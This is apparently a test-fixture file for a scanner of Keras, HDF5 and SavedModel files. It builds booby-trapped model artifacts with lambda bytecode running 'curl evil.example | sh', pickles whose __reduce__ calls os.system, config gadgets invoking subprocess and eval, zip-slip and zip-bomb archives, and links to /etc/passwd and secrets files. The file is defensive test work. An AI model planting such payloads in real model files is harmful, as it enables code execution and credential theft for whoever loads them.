"""Keras configs, archives, HDF5 and files beside the model that do something. Never loaded."""

from __future__ import annotations

import base64
import json
import marshal
import pickle
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import h5py
import numpy as np
import tensorflow as tf
from cases import ANY, Expected, case, edit, save
from clean_models import network

KERAS, H5 = "model.keras", "model.h5"
PYTHON_27 = (  # of `lambda x: __import__("os").system("id")`, as Python 2.7 marshalled it
    "YwEAAAABAAAAAgAAAEMAAABzEwAAAHQAAGQBAIMBAGoBAGQCAIMBAFMoAwAAAE50AgAAAG9zdAIAAABpZCgCAAAA"
    "dAoAAABfX2ltcG9ydF9fdAYAAABzeXN0ZW0oAQAAAHQBAAAAeCgAAAAAKAAAAABzCAAAADxzdHJpbmc+dAgAAAA8"
    "bGFtYmRhPgMAAAB0AAAAAA=="
)


def found(rule: str, severity: str, what: str, argument: str | None = None) -> Expected:
    return Expected(rule, severity, what, argument, ("loading",))


def code_of(function: Callable[..., Any]) -> str:
    """As Keras stores a function; none of these is ever called."""
    return base64.b64encode(marshal.dumps(function.__code__)).decode()


RUN = code_of(lambda x: __import__("os").system("curl evil.example | sh"))
DOUBLE = code_of(lambda x: x * 2)


def layer(class_name: str, module: str | None = "keras.layers", **config: Any) -> dict[str, Any]:
    named = {"name": class_name.lower(), **config}
    return {"module": module, "class_name": class_name, "config": named, "registered_name": None}


def function(module: str, name: str) -> dict[str, Any]:
    return {
        "module": module,
        "class_name": "function",
        "config": name,
        "registered_name": "function",
    }


def lambda_layer(code: str) -> dict[str, Any]:
    value = {"class_name": "__lambda__", "config": {"value": [code, None, None]}}
    return layer("Lambda", function=value)


def archive(folder: Path, *layers: dict[str, Any], **members: bytes) -> None:
    """A `.keras` file whose config has layers of ours behind the input."""
    network().save(folder / "source.keras")
    with (
        zipfile.ZipFile(folder / "source.keras") as source,
        zipfile.ZipFile(folder / KERAS, "w") as target,
    ):
        for name in source.namelist():
            data = source.read(name)
            if name == "config.json":
                config = json.loads(data)
                config["config"]["layers"] += layers
                data = json.dumps(config).encode()
            if name == "metadata.json":
                data = b'{"keras_version": "3.15.1", "date_saved": "2026-01-01@00:00:00"}'
            target.writestr(zipfile.ZipInfo(name), data)
        for name, data in members.items():
            target.writestr(zipfile.ZipInfo(name), data)
    (folder / "source.keras").unlink()


def in_config(name: str, family: str, added: dict[str, Any], *expected: Expected) -> None:
    case(family, *expected, file=KERAS)(_named(name, lambda folder: archive(folder, added)))


def _named(name: str, make: Callable[[Path], object]) -> Callable[[Path], object]:
    make.__name__ = name
    return make


in_config(
    "lambda_runs",
    "bytecode",
    lambda_layer(RUN),
    found("lambda-bytecode", "critical", "__lambda__", ANY),
)
in_config(
    "lambda_doubles",
    "bytecode",
    lambda_layer(DOUBLE),
    found("lambda-bytecode", "medium", "__lambda__"),
)
in_config(
    "lambda_python27",
    "bytecode",
    lambda_layer(PYTHON_27),
    found("lambda-bytecode", "critical", "__lambda__", ANY),
)
in_config(
    "lambda_garbage",
    "bytecode",
    lambda_layer(base64.b64encode(b"\xe3" + b"\xff" * 40).decode()),
    found("lambda-bytecode", "high", "__lambda__"),
)
in_config(
    "gadget_popen",
    "get_config gadgets",
    layer("Popen", "subprocess", args=["id"]),
    found("config-gadget", "critical", "subprocess.Popen", ANY),
)
in_config(
    "gadget_system",
    "get_config gadgets",
    layer("Dense", units=2, activation=function("os", "system")),
    found("config-gadget", "critical", "os.system"),
)
in_config(
    "gadget_run",
    "get_config gadgets",
    layer("Dense", units=2, kernel_initializer=layer("run", "subprocess", args="id")),
    found("config-gadget", "critical", "subprocess.run", ANY),
)
in_config(
    "gadget_eval",
    "get_config gadgets",
    layer("Dense", units=2, activation=function("builtins", "eval")),
    found("config-gadget", "critical", "builtins.eval"),
)
in_config(
    "gadget_get_file",
    "get_config gadgets",
    layer("Dense", units=2, activation=function("keras.utils", "get_file")),
    found("config-gadget", "critical", "keras.utils.get_file"),
)
in_config(
    "gadget_unsafe",
    "get_config gadgets",
    layer("Dense", units=2, activation=function("keras.config", "enable_unsafe_deserialization")),
    found("config-gadget", "critical", "keras.config.enable_unsafe_deserialization"),
)
in_config(
    "gadget_load",
    "get_config gadgets",
    layer("Dense", units=2, activation=function("numpy", "load")),
    found("config-gadget", "critical", "numpy.load"),
)
in_config(
    "gadget_write",
    "get_config gadgets",
    layer("Dense", units=2, activation=function("tensorflow.io", "write_file")),
    found("config-gadget", "critical", "tensorflow.io.write_file"),
)
in_config(
    "gadget_spec",
    "get_config gadgets",
    layer(
        "InputLayer",
        sparse={
            "class_name": "__typespec__",
            "spec_name": "system",
            "module": "os",
            "config": ["id"],
        },
    ),
    found("config-gadget", "critical", "os.system", ANY),
)
in_config(
    "gadget_torch",
    "pickles",
    {**layer("TorchModuleWrapper"), "config": {"name": "t", "module": "gASVAAAA"}},
    found("config-gadget", "critical", "TorchModuleWrapper"),
)
in_config(
    "registered_function",
    "registered functions",
    layer(
        "Dense", units=2, activation={**function("builtins", "act"), "registered_name": "evil>act"}
    ),
    found("custom-object", "low", "builtins.act"),
)
in_config(
    "foreign_model",
    "files in configs",
    layer("TFSMLayer", filepath="/tmp/other_model"),
    found("config-path", "high", "TFSMLayer", "/tmp/other_model"),
)
in_config(
    "vocabulary_secret",
    "files in configs",
    layer("StringLookup", vocabulary="/etc/passwd"),
    found("config-path", "critical", "StringLookup", "/etc/passwd"),
)
in_config(
    "vocabulary_file",
    "files in configs",
    layer("StringLookup", vocabulary="words.txt"),
    found("config-path", "medium", "StringLookup", "words.txt"),
)


def in_h5(name: str, family: str, added: dict[str, Any], *expected: Expected) -> None:
    def make(folder: Path) -> None:
        network().save(folder / H5)
        with h5py.File(folder / H5, "r+") as file:
            config = json.loads(file.attrs["model_config"])
            config["config"]["layers"].append(added)
            file.attrs["model_config"] = json.dumps(config)

    case(family, *expected, file=H5)(_named(name, make))


in_h5(
    "h5_lambda_runs",
    "bytecode",
    {
        "class_name": "Lambda",
        "config": {"name": "l", "function": [RUN, None, None], "function_type": "lambda"},
    },
    found("lambda-bytecode", "critical", "Lambda l", ANY),
)
in_h5(
    "h5_lambda_by_name",
    "bytecode",
    {
        "class_name": "Lambda",
        "config": {"name": "l", "function": "system", "module": "os", "function_type": "function"},
    },
    found("config-gadget", "critical", "os.system"),
)
in_h5(
    "h5_lambda_source",
    "bytecode",
    {"class_name": "Lambda", "config": {"name": "l", "function": "lambda x: exec('import os')"}},
    found("lambda-bytecode", "critical", "Lambda l", ANY),
)
in_h5(
    "h5_op_layer",
    "get_config gadgets",
    {"class_name": "TFOpLambda", "config": {"name": "o", "function": "io.write_file"}},
    found("config-gadget", "critical", "tf.io.write_file"),
)


@case("bytecode", found("lambda-bytecode", "critical", "Lambda l", ANY))
def metadata_lambda(folder: Path) -> None:
    save(folder, {"serving_default": lambda x: x}, tf.TensorSpec([None], tf.float32, name="x"))
    text = json.dumps(
        {"class_name": "Lambda", "config": {"name": "l", "function": [RUN, None, None]}}
    )

    def change(proto: Any) -> None:
        node = proto.meta_graphs[0].object_graph_def.nodes[0]
        node.user_object.identifier, node.user_object.metadata = "_tf_keras_layer", text

    edit(folder, change)


@case("zip", found("zip-trick", "high", "../../evil.txt"), file=KERAS)
def zip_slip(folder: Path) -> None:
    archive(folder, **{"../../evil.txt": b"x"})


@case(
    "zip",
    found("zip-trick", "high", "config.json"),
    Expected("unreadable", "medium", "artifact", None, ()),
    file=KERAS,
)
def zip_twice(folder: Path) -> None:
    archive(folder, **{"config.json": b"{}"})


@case("zip", found("zip-trick", "high", "assets/zeros.txt"), file=KERAS)
def zip_bomb(folder: Path) -> None:
    archive(folder)
    with zipfile.ZipFile(folder / KERAS, "a", zipfile.ZIP_DEFLATED) as target:
        target.writestr(zipfile.ZipInfo("assets/zeros.txt"), bytes(2 << 20), zipfile.ZIP_DEFLATED)


@case("zip", found("zip-trick", "high", "assets/link"), file=KERAS)
def zip_link(folder: Path) -> None:
    archive(folder)
    with zipfile.ZipFile(folder / KERAS, "a") as target:
        member = zipfile.ZipInfo("assets/link")
        member.external_attr = 0o120777 << 16
        target.writestr(member, "/etc/passwd")


class Runs:
    """What a pickle calls when it is read. It never is."""

    def __reduce__(self) -> Any:
        import os

        return os.system, ("id",)


def pickled(thing: object, protocol: int) -> bytes:
    return pickle.dumps(thing, protocol)


@case("pickles", found("pickle", "critical", "tokenizer.pkl", "posix.system"), file=KERAS)
def pickle_in_archive(folder: Path) -> None:
    archive(folder, **{"assets/tokenizer.pkl": pickled(Runs(), 4)})


def beside(name: str, file: str, data: bytes, *expected: Expected) -> None:
    def make(folder: Path) -> None:
        save(folder, {"serving_default": lambda x: x}, tf.TensorSpec([None], tf.float32, name="x"))
        path = folder / file
        path.parent.mkdir(exist_ok=True)
        path.write_bytes(data)

    case("pickles" if "pickle" in name else "files beside", *expected)(_named(name, make))


beside(
    "pickle_runs",
    "assets.extra/labels.pkl",
    pickled(Runs(), 2),
    found("pickle", "critical", "labels.pkl", "posix.system"),
)
beside(
    "pickle_text",
    "labels.pickle",
    pickled(Runs(), 0),
    found("pickle", "critical", "labels.pickle", "posix.system"),
)
beside(
    "pickle_plain",
    "labels.pkl",
    pickled({"a": [1, 2.5, "b"]}, 4),
    found("pickle", "low", "labels.pkl"),
)
beside(
    "pickle_hidden_name",
    "notes.txt",
    pickled(Runs(), 5),
    found("pickle", "critical", "notes.txt", "posix.system"),
)
beside(
    "library_beside",
    "assets.extra/ops.so",
    b"\x7fELF" + bytes(60),
    found("native-file", "medium", "ops.so"),
)


@case("pickles", found("pickle", "critical", "values.npy", "posix.system"), file=H5)
def numpy_objects(folder: Path) -> None:
    network().save(folder / H5)
    np.save(folder / "values.npy", np.array([Runs()], dtype=object), allow_pickle=True)


@case(
    "HDF5",
    found("hdf5-link", "critical", "external link", "/etc/secrets.h5:/w"),
    file="model.weights.h5",
)
def hdf5_link(folder: Path) -> None:
    network().save_weights(folder / "model.weights.h5")
    with h5py.File(folder / "model.weights.h5", "r+") as file:
        file["layers/dense/vars/9"] = h5py.ExternalLink("/etc/secrets.h5", "/w")


@case("HDF5", found("hdf5-link", "high", "virtual dataset", "other.h5:w"), file="model.weights.h5")
def hdf5_virtual(folder: Path) -> None:
    network().save_weights(folder / "model.weights.h5")
    layout = h5py.VirtualLayout((3,), "f4")
    layout[:] = h5py.VirtualSource("other.h5", "w", (3,))
    with h5py.File(folder / "model.weights.h5", "r+") as file:
        file.create_virtual_dataset("layers/dense/vars/9", layout)


@case(
    "HDF5", found("hdf5-link", "high", "external storage", "/srv/raw.bin"), file="model.weights.h5"
)
def hdf5_storage(folder: Path) -> None:
    network().save_weights(folder / "model.weights.h5")
    with h5py.File(folder / "model.weights.h5", "r+") as file:
        file.create_dataset("layers/dense/vars/9", (3,), "f4", external=[("/srv/raw.bin", 0, 12)])


@case("damage", Expected("unreadable", "medium", "artifact", None, ()))
def broken(folder: Path) -> None:
    save(folder, {"serving_default": lambda x: x}, tf.TensorSpec([None], tf.float32, name="x"))
    path = folder / "saved_model.pb"
    path.write_bytes(path.read_bytes()[:-40])
